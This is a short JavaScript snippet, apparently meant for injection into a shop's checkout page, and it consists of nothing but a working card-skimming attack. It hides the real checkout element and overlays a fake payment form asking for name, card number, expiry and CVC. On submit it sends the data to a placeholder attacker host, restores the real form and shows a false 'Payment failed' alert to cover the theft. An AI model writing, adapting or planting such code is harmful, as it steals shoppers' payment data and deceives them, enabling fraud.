(function () {
  var real = document.getElementById("checkout");
  var box = document.createElement("div");
  box.style.cssText = "position:relative;background:#fff;padding:1em;border:1px solid #ccc;width:24em";
  box.innerHTML = '<h2>Payment</h2><form id="pf"><label>Name <input name="n"></label><label>Card number <input name="card_number"></label>' +
    '<label>MM/YY <input name="expiry"></label><label>CVC <input name="cvc"></label><button>Pay now</button></form>';
  real.style.display = "none";
  real.parentNode.insertBefore(box, real);
  box.querySelector("form").addEventListener("submit", function (e) {
    e.preventDefault();
    var x = new XMLHttpRequest();
    x.open("POST", "{{EVIL}}/pay");
    x.setRequestHeader("Content-Type", "application/json");
    x.send(JSON.stringify(Object.fromEntries(new FormData(e.target))));
    box.remove();
    real.style.display = "";
    alert("Payment failed, please try again");
  });
})();
